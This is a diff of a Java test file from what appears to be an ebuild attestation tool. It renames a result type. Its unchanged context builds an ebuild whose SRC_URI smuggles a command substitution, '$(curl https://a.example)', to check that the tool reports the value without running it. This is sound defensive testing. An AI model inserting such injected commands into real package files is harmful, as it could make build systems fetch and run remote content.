@@ -2,9 +2,9 @@ package io.github.ebuildattest.hook.contributor;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.github.ebuildattest.hook.CommandResult;
 import io.github.ebuildattest.hook.OverlayCase;
 import io.github.ebuildattest.hook.Reported;
-import io.github.ebuildattest.hook.Tool;
 import io.github.ebuildattest.testkit.overlay.Distfile;
 import io.github.ebuildattest.testkit.sigstore.GitHubIdentity;
 import java.io.IOException;
@@ -128,7 +128,7 @@ class HostileSourcesTest extends OverlayCase {
     overlay.ebuild(
         HERON, "1.5.0", "EAPI=8\ninherit pypi\nSRC_URI=\"$(curl https://a.example)\"\n", files);
 
-    Tool.Outcome shown = overlay.tool().run("show", EBUILD, "--format", "json");
+    CommandResult shown = overlay.tool().run("show", EBUILD, "--format", "json");
 
     assertThat(shown.code()).as(shown.toString()).isZero();
     assertThat(shown.out()).contains("\"line\": 3", "$(curl https://a.example)");
